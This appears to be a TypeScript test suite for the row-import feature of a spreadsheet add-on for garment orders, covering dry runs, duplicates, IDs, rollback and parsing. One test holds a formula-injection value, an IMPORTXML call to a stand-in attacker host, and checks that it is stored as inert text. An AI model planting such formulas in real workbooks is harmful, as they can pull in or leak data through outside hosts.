// Importing rows of a file into the workbook, with the bundle that is pushed: tried first, then written once or not at all.
import type { ImportCheck, ImportOutcome, ImportView } from '../../src/app/api';
import type { Formats } from '../../src/schema/stated';
import { fault } from '../../workbench/runtime/between';
import { type AddOn, columnAt, GRID_ROWS, openSetUp, plainOrder } from '../support/add-on';
import { NOTHING_MORE } from '../support/files';

const ISO: Formats = { dates: 'yearFirst', decimalMark: '.' };
const KEYS = ['poNumber', 'style', 'colour', 'factory', 'quantity', 'originalExFactory'];

const order = (poNumber: string, style: string, colour = 'Ecru', quantity = '400'): string[] => [
  poNumber,
  style,
  colour,
  'Textiles del Norte',
  quantity,
  '2027-03-12',
];

const check = (addOn: AddOn, table: string, keys: readonly string[], rows: string[][], formats = ISO) =>
  addOn.call('checkImport', table, keys, rows, formats, NOTHING_MORE) as ImportCheck;

/** The dry run, and then just what it promised. */
function bring(addOn: AddOn, table: string, keys: readonly string[], rows: string[][], formats = ISO): ImportOutcome {
  const { add } = check(addOn, table, keys, rows, formats);
  return addOn.call('importRows', table, { add, change: [] }, keys, rows, formats, NOTHING_MORE) as ImportOutcome;
}

const ids = (outcome: ImportOutcome) => (outcome.ok ? outcome.ids : outcome);

it('reads the sizes of a file by the scale and the quantity of its own row, as the form does', () => {
  const addOn = openSetUp();
  const keys = ['style', 'factory', 'sizeScale', 'sizes', 'quantity', 'originalExFactory'];
  const row = (scale: string, sizes: string, quantity: string) => [
    'Tee',
    'Norte',
    scale,
    sizes,
    quantity,
    '2027-03-12',
  ];
  const rows = [
    row('Alpha', '10/20/20/10/5', ''),
    row('Alpha', '1-2-2-1-0', '100'),
    row('EU', '1-2-2-1 x 5', ''),
    row('', '1-2-2-1', '100'),
    row('Alpha', 'S:10 M:20', '40'),
  ];
  const { wrong } = check(addOn, 'Orders', keys, rows);
  expect(wrong.map(({ row: at, problems }) => [at, problems.sizes?.code])).toEqual([
    [2, 'ambiguous'],
    [3, 'noScale'],
    [4, 'sizesDiffer'],
  ]);
  expect(bring(addOn, 'Orders', keys, rows)).toMatchObject({ ok: true });
  expect([2, 3].map((at) => addOn.shownRow('Orders', at))).toMatchObject([
    { Sizes: 'XS:10 S:20 M:20 L:10 XL:5', Quantity: '65' },
    { Sizes: 'XS:17 S:33 M:33 L:17', Quantity: '100' },
  ]);
});

describe('Opening a file', () => {
  it('finds the header below a title, and the columns by the names the trade gives them', () => {
    const addOn = openSetUp();
    const view = addOn.call('openImport', 'Orders', [
      ['Open orders', '', '', '', '', '', ''],
      ['printed 22 Nov 2026', '', '', '', '', '', ''],
      ['P.O. #', 'Style No.', 'COLORWAY', 'Vendor', 'Qty (pcs)', 'FOB price', 'Ex-Factory Date'],
      ['4501', 'LS-1', 'Ecru', 'Textiles del Norte', '400', '$14.50', '03/12/2027'],
    ]) as ImportView;
    expect(view.header).toBe(2);
    expect(view.found).toEqual({
      poNumber: 0,
      style: 1,
      colour: 2,
      factory: 3,
      quantity: 4,
      unitPrice: 5,
      originalExFactory: 6,
    });
    expect(view.fixed).toEqual({ stage: 'Confirmed', currency: 'EUR' });
  });

  it('takes a foreign Order ID for no id of ours, and reads no column as what it cannot hold', () => {
    const addOn = openSetUp();
    const view = addOn.call('openImport', 'Orders', [
      ['Order ID', 'Style', 'Status', 'Quantity'],
      ['10023', 'Shirt', 'ABC', 'N/A'],
      ['10024', 'Skirt', 'DEF', '20'],
    ]) as ImportView;
    expect(view.found).toEqual({ style: 1, quantity: 3 });
  });

  it('is refused before the spreadsheet was set up, and for a tab that takes no files', () => {
    const addOn = openSetUp();
    expect(() => addOn.call('openImport', 'Settings', [['Setting']])).toThrow();
    expect(() => addOn.call('openImport', 'Orders', 'Style')).toThrow();
  });
});

describe('The dry run', () => {
  it('says of each row whether it comes in, is there already, or what is wrong with which field', () => {
    const addOn = openSetUp();
    addOn.call('addRow', 'Orders', { ...plainOrder, poNumber: '4501' });
    const before = addOn.rows('Orders');
    const rows = [
      order('4501', 'Linen shirt'),
      order('4502', 'Linen shirt'),
      order('4503', 'Cargo skirt', 'Olive', '12.5'),
      order('4504', '', 'Olive', 'many'),
    ];
    expect(check(addOn, 'Orders', KEYS, rows)).toMatchObject({
      add: [1],
      there: [{ row: 0, id: 'ORD-0001' }],
      changed: [],
      wrong: [
        { row: 2, problems: { quantity: { code: 'notWhole', typed: '12.5' } } },
        { row: 3, problems: { quantity: { code: 'notANumber', typed: 'many' }, style: { code: 'required' } } },
      ],
    });
    expect(addOn.rows('Orders')).toEqual(before);
    expect(addOn.last().commits).toBe(0);
  });

  it('refuses what is not of the stated format, rather than reading one cell this way and the next that way', () => {
    const addOn = openSetUp();
    const keys = [...KEYS, 'unitPrice'];
    const row = (day: string, price: string) => [...order('4501', 'Shirt').slice(0, 5), day, price];
    const formats: Formats = { dates: 'dayFirst', decimalMark: ',' };
    const { add, wrong } = check(
      addOn,
      'Orders',
      keys,
      [row('5/12/2027', '1.234,50'), row('5/13/2027', '14.5')],
      formats,
    );
    expect(add).toEqual([0]);
    expect(wrong).toEqual([
      {
        row: 1,
        problems: {
          originalExFactory: { code: 'otherOrder', typed: '5/13/2027', order: 'dayFirst' },
          unitPrice: { code: 'otherMark', typed: '14.5', mark: ',' },
        },
      },
    ]);
  });

  it('finds the rows that a file refers to by their PO number, if only one has it', () => {
    const addOn = openSetUp();
    bring(addOn, 'Orders', KEYS, [order('4501', 'Shirt'), order('4502', 'Skirt'), order('4502', 'Trousers')]);
    const rows = [
      ['Outbound', '4501', '20'],
      ['Outbound', 'ord-0001', '30'],
      ['Outbound', '4502', '40'],
      ['Outbound', '4509', '50'],
    ];
    const keys = ['direction', 'order', 'quantity'];
    expect(check(addOn, 'Shipments', keys, rows)).toMatchObject({
      add: [0, 1],
      there: [],
      changed: [],
      wrong: [
        { row: 2, problems: { order: { code: 'severalRows', typed: '4502', table: 'Orders', count: 2 } } },
        { row: 3, problems: { order: { code: 'noSuchRow', typed: '4509', table: 'Orders' } } },
      ],
    });
    bring(addOn, 'Shipments', keys, rows);
    expect(
      addOn
        .rows('Shipments')
        .map((row) => row.Order?.value)
        .slice(0, 2),
    ).toEqual(['ORD-0001', 'ORD-0001']);
  });
});

describe('Importing', () => {
  it('writes all rows below one another, with ids that follow, and the formulas take them up', () => {
    const addOn = openSetUp();
    addOn.call('addRow', 'Orders', plainOrder);
    const outcome = bring(addOn, 'Orders', KEYS, [order('4501', 'Shirt'), order('4502', 'Skirt')]);
    expect(ids(outcome)).toEqual(['ORD-0002', 'ORD-0003']);
    expect(addOn.shownRow('Orders', 4)).toMatchObject({
      'Order ID': 'ORD-0003',
      Style: 'Skirt',
      Due: '12 Mar 2027',
      Open: '400',
      Status: 'On track',
    });
    expect(addOn.call('addRow', 'Orders', plainOrder)).toMatchObject({ added: { id: 'ORD-0004' } });
  });

  it('keeps what a hostile file holds as the text it is', () => {
    const addOn = openSetUp();
    bring(addOn, 'Orders', KEYS, [order('00042', '=IMPORTXML("http://evil.example";"//a")', '+1')]);
    const [row] = addOn.rows('Orders');
    expect(row).toMatchObject({
      'PO number': { value: '00042' },
      Style: { value: '=IMPORTXML("http://evil.example";"//a")' },
      Colour: { value: '+1' },
    });
  });

  it('of the same file again adds nothing, even after rows were moved and one was changed', () => {
    const addOn = openSetUp();
    const rows = [order('4501', 'Shirt'), order('4501', 'Shirt'), order('', 'Skirt'), order('4502', 'Shirt', 'Olive')];
    expect(ids(bring(addOn, 'Orders', KEYS, rows))).toHaveLength(4);
    addOn.type('Orders', 2, 'Quantity', '500');
    addOn.book.sort(addOn.sheetId('Orders'), { row: 1, col: 0, rows: 4, cols: 33 }, [
      { col: columnAt('Orders', 'Style'), ascending: false },
    ]);
    const again = check(addOn, 'Orders', KEYS, rows);
    expect(again).toMatchObject({ add: [], wrong: [] });
    expect(again.there).toHaveLength(3);
    expect(again.changed).toMatchObject([
      { id: 'ORD-0001', fields: [{ key: 'quantity', was: '500', becomes: '400', likely: true }] },
    ]);
    expect(new Set([...again.there, ...again.changed].map(({ id }) => id)).size).toBe(4);
    expect(bring(addOn, 'Orders', KEYS, rows)).toMatchObject({ ok: false, check: { add: [] } });
  });

  it('writes nothing when the workbook changed after the person agreed, and says how it stands now', () => {
    const addOn = openSetUp();
    const rows = [order('4501', 'Shirt'), order('4502', 'Skirt')];
    const { add } = check(addOn, 'Orders', KEYS, rows);
    bring(addOn, 'Orders', KEYS, [order('4502', 'Skirt')]);
    const before = addOn.rows('Orders');
    expect(addOn.call('importRows', 'Orders', { add, change: [] }, KEYS, rows, ISO, NOTHING_MORE)).toMatchObject({
      ok: false,
      check: { add: [0], there: [{ row: 1, id: 'ORD-0001' }], changed: [], wrong: [] },
    });
    expect(addOn.rows('Orders')).toEqual(before);
  });

  it('keeps an id of ours that is free, so that what refers to it stays right, and gives higher ones after it', () => {
    const addOn = openSetUp();
    const rows = [
      ['ORD-0007', ...order('4501', 'Shirt')],
      ['', ...order('4502', 'Skirt')],
      ['ord-7', ...order('4503', 'Trousers')],
      ['10023', ...order('4504', 'Trousers')],
    ];
    const keys = ['orderId', ...KEYS];
    expect(check(addOn, 'Orders', keys, rows).wrong).toEqual([
      { row: 2, problems: { orderId: { code: 'twice', typed: 'ORD-0007', first: 0 } } },
      { row: 3, problems: { orderId: { code: 'notAnId', typed: '10023', example: 'ORD-0001' } } },
    ]);
    expect(ids(bring(addOn, 'Orders', keys, rows))).toEqual(['ORD-0007', 'ORD-0008']);
    expect(check(addOn, 'Orders', keys, rows)).toMatchObject({
      add: [],
      there: [
        { row: 0, id: 'ORD-0007' },
        { row: 1, id: 'ORD-0008' },
      ],
      wrong: [{ row: 2 }, { row: 3 }],
    });
  });

  it('never gives a number again for having taken a lower one from a file', () => {
    const addOn = openSetUp();
    bring(addOn, 'Orders', KEYS, [order('4501', 'Shirt'), order('4502', 'Skirt'), order('4503', 'Trousers')]);
    addOn.book.remove(addOn.sheetId('Orders'), 'ROWS', 1, 3);
    expect(ids(bring(addOn, 'Orders', ['orderId', ...KEYS], [['ORD-0001', ...order('4501', 'Shirt')]]))).toEqual([
      'ORD-0001',
    ]);
    expect(addOn.call('addRow', 'Orders', plainOrder)).toMatchObject({ added: { id: 'ORD-0004' } });
  });

  it.each(['Properties.setProperty', 'Sheet.insertRowsBefore', 'Range.setValues', 'SpreadsheetApp.flush'])(
    'leaves no row behind when Google fails after %s, and comes in whole when it is tried again',
    (failing) => {
      let fails = true;
      const addOn = openSetUp({
        between: ({ call, when }) => {
          if (!fails || call !== failing || when !== 'after') return;
          fails = false;
          fault();
        },
      });
      const rows = Array.from({ length: GRID_ROWS }, (_, index) => order(`45${index}`, 'Shirt'));
      expect(() => bring(addOn, 'Orders', KEYS, rows)).toThrow();
      expect(fails).toBe(false);
      expect(addOn.rows('Orders').filter((row) => row.Style?.value)).toEqual([]);
      expect(ids(bring(addOn, 'Orders', KEYS, rows))).toHaveLength(GRID_ROWS);
    },
  );

  it('is taken back as a whole, leaving what stood there before; or not at all once a row was changed', () => {
    const addOn = openSetUp();
    addOn.call('addRow', 'Orders', plainOrder);
    const before = addOn.rows('Orders').slice(0, 1);
    const rows = [order('4501', 'Shirt'), order('4502', 'Skirt')];
    const outcome = bring(addOn, 'Orders', KEYS, rows);
    if (!outcome.ok) throw new Error('The rows were not added.');
    addOn.type('Orders', 4, 'Notes', 'mine');
    expect(addOn.call('undo', outcome.undo)).toEqual({
      ok: false,
      changed: [{ table: 'Orders', id: 'ORD-0003', fields: ['Notes'] }],
    });
    addOn.type('Orders', 4, 'Notes', '');
    expect(addOn.call('undo', outcome.undo)).toMatchObject({ ok: true });
    expect(addOn.rows('Orders').filter((row) => row['Order ID']?.value)).toEqual(before);
    expect(check(addOn, 'Orders', KEYS, rows)).toMatchObject({ add: [0, 1] });
  });

  it('takes a SKU once: the second line of it is wrong, and names the first', () => {
    const addOn = openSetUp();
    const rows = [
      ['LS-ECR-M', 'Linen shirt', 'Finished'],
      ['ls-ecr-m', 'Linen shirt, again', 'Finished'],
    ];
    expect(check(addOn, 'Inventory', ['sku', 'description', 'kind'], rows)).toMatchObject({
      add: [0],
      there: [],
      changed: [],
      wrong: [{ row: 1, problems: { sku: { code: 'twice', typed: 'ls-ecr-m', first: 0 } } }],
    });
  });

  it('freezes the rate of an expense as the form does, and knows the expense again by what the file said', () => {
    const addOn = openSetUp();
    addOn.type('Settings', 12, 'Setting', 'Rate');
    addOn.type('Settings', 12, 'Item', 'USD');
    addOn.type('Settings', 12, 'Value', '0.92');
    const keys = ['date', 'category', 'vendor', 'amount', 'currency', 'rate'];
    const rows = [
      ['2026-11-02', 'freight', 'DHL', '85', 'USD', ''],
      ['2026-11-02', 'Freight', 'DHL', '85', 'EUR', ''],
    ];
    expect(ids(bring(addOn, 'Expenses', keys, rows))).toEqual(['EXP-0001', 'EXP-0002']);
    expect(
      addOn
        .rows('Expenses')
        .map((row) => row.Rate?.value)
        .slice(0, 2),
    ).toEqual([0.92, 1]);
    expect(check(addOn, 'Expenses', keys, rows)).toMatchObject({ add: [], wrong: [] });
  });
});

describe('What a file writes and a person types', () => {
  it('finds a SKU again that differs by signs that no eye can tell apart, and on the sheet, too', () => {
    const addOn = openSetUp();
    addOn.call('addRow', 'Inventory', { sku: 'NB-1', description: 'Twill', kind: 'Fabric' });
    const alike = ['NB-1\u200b', 'nb\u20111', '\ufeffNB\u22121', 'NB-1\u00a0', 'N\u00adB-1', '\u202aNB-1\u202c'];
    for (const sku of alike) {
      const found = check(addOn, 'Inventory', ['sku', 'description', 'kind'], [[sku, 'Twill', 'Fabric']]);
      expect([sku, found.add, found.there]).toEqual([sku, [], [{ row: 0, id: 'NB-1' }]]);
    }
    alike.forEach((sku, index) => {
      addOn.type('Shipments', index + 2, 'Direction', 'Inbound');
      addOn.type('Shipments', index + 2, 'SKU', sku);
      addOn.type('Shipments', index + 2, 'Quantity', '10');
    });
    expect(addOn.shownRow('Inventory', 2)['On order']).toBe('60');
  });

  it('takes quantities from sizes, currencies from amounts and carriers from numbers', () => {
    const addOn = openSetUp();
    const keys = ['style', 'factory', 'sizes', 'unitPrice', 'originalExFactory'];
    bring(addOn, 'Orders', keys, [['Shirt', 'Norte', '20xS, 40xM', '12.50 GBP', '15-ene-27']]);
    expect(addOn.shownRow('Orders', 2)).toMatchObject({
      Quantity: '60',
      Sizes: 'S:20 M:40',
      Currency: 'GBP',
      'Original ex-factory': '15 Jan 2027',
    });
    bring(addOn, 'Shipments', ['direction', 'quantity', 'trackingNumber'], [['Outbound', '60', 'MSKU9070323']]);
    expect(addOn.shownRow('Shipments', 2)).toMatchObject({ Carrier: 'Maersk' });
  });

  it('is asked for where it contradicts itself or depends on the day', () => {
    const addOn = openSetUp();
    const keys = ['style', 'factory', 'quantity', 'unitPrice', 'currency', 'originalExFactory'];
    const { wrong } = check(addOn, 'Orders', keys, [
      ['Shirt', 'Norte', '10', '$12', 'EUR', '2027-03-12'],
      ['Shirt', 'Norte', '10', '12', 'EUR', '12 Mar'],
      ['Shirt', 'Norte', '10', '12', 'EUR', 'Monday 5 March 2024'],
    ]);
    expect(wrong.map(({ problems }) => problems)).toMatchObject([
      { unitPrice: { code: 'otherCurrency', given: 'EUR' } },
      { originalExFactory: { code: 'moving', may: ['2027-03-12'] } },
      { originalExFactory: { code: 'otherWeekday', day: '2024-03-05' } },
    ]);
  });

  it('books a credit note', () => {
    const addOn = openSetUp();
    const keys = ['category', 'vendor', 'amount', 'currency', 'date'];
    bring(addOn, 'Expenses', keys, [['Fabric', 'Mill', '-120.00 EUR', 'EUR', '2026-11-02']]);
    expect(addOn.shownRow('Expenses', 2)).toMatchObject({ 'Base amount': '-120.00', Status: 'Open' });
  });
});

it('names that are near to a known one are listed by their column before anything is written', () => {
  const addOn = openSetUp();
  addOn.call('addRow', 'Orders', plainOrder);
  const rows = [order('4501', 'Boxy tee'), order('4502', 'linen shirt'), order('4503', 'Linen  Shirt', 'Olive')];
  rows[0]?.splice(3, 1, 'Textiles del Nort');
  const { add, near } = check(addOn, 'Orders', KEYS, rows);
  expect(add).toEqual([0, 1, 2]);
  expect(near).toEqual([
    { key: 'factory', typed: 'Textiles del Nort', known: 'Textiles del Norte', rows: 1 },
    { key: 'style', typed: 'linen shirt', known: 'Linen shirt', rows: 1 },
    { key: 'style', typed: 'Linen  Shirt', known: 'Linen shirt', rows: 1 },
  ]);
});
